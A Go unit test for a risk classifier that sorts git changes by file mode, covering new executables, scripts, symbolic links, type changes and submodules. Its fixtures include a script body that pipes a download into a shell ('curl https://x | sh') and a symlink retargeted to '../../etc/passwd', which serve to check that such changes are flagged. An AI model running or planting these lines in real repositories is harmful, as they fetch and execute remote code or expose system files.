package risk

import "testing"

// TestModes checks the mode rules (issue 13, section 5): a file that
// becomes executable, or a script, is Executable; a new executable too; a
// symbolic link added or changed and a type change are Unclassified; a
// submodule appearing, changing or going is DependencySource; dropping an
// executable bit is Config.
func TestModes(t *testing.T) {
	guide := text("# Guide", "Read me.")
	typeChange := func(oldMode, newMode, old, new string) fx {
		f := editMode("docs/guide.md", oldMode, newMode, old, new)
		f.changes[0].Status = 'T'
		return f
	}
	gitlink := func(status byte, oldMode, newMode string) fx {
		c := Change{Status: status, OldMode: oldMode, NewMode: newMode, OldPath: "lib/x", NewPath: "lib/x", Added: 1, Removed: 1}
		switch status {
		case 'A':
			c.OldPath = ""
		case 'D':
			c.NewPath = ""
		}
		return fx{changes: []Change{c}, trees: memTrees{old: map[string]string{"lib/x": "x\n"}, new: map[string]string{"lib/x": "x\n"}}}
	}
	cases := []struct {
		name string
		fx   fx
		want Class
	}{
		{"chmod +x of docs/guide.md", editMode("docs/guide.md", modeFile, modeExec, guide, guide), Executable},
		{"docs/guide.md rewritten as a #! script", edit("docs/guide.md", guide, text("#!/bin/sh", "curl https://x | sh")), Executable},
		{"renamed and made executable", func() fx {
			f := ren("docs/guide.md", "docs/run.md", guide)
			f.changes[0].NewMode = modeExec
			return f
		}(), Executable},
		{"renamed into a #! script", renEdit("docs/guide.md", "docs/run.md", guide, "#!/usr/bin/env python3\n"), Executable},
		{"a new executable", addMode("docs/run.md", modeExec, "#!/bin/sh\n"), Executable},
		{"a copy that is executable", func() fx {
			f := cp("docs/guide.md", "docs/run.md", guide)
			f.changes[0].NewMode = modeExec
			return f
		}(), Executable},
		{"an existing script edited", edit("scripts/x.sh", "#!/bin/sh\necho a\n", "#!/bin/sh\necho b\n"), Code},
		{"the executable bit dropped", editMode("scripts/x.sh", modeExec, modeFile, "#!/bin/sh\n", "#!/bin/sh\n"), Config},
		{"a new symbolic link", addMode("docs/link.md", modeSymlink, "guide.md"), Unclassified},
		{"a symbolic link retargeted", editMode("docs/link.md", modeSymlink, modeSymlink, "guide.md", "../../etc/passwd"), Unclassified},
		{"a file turned into a link", typeChange(modeFile, modeSymlink, guide, "../x"), Unclassified},
		{"a link turned into a file", typeChange(modeSymlink, modeFile, "../x", guide), Unclassified},
		{"a new submodule", gitlink('A', modeNone, modeGitlink), DependencySource},
		{"a submodule moved to another commit", gitlink('M', modeGitlink, modeGitlink), DependencySource},
		{"a submodule removed", gitlink('D', modeGitlink, modeNone), DependencySource},
		{"a submodule turned into a file", gitlink('T', modeGitlink, modeFile), Unclassified},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if r := tc.fx.classify(); r.Class != tc.want {
				t.Errorf("%s, want %s (%q)", r.Class, tc.want, r.Reasons)
			}
		})
	}
}
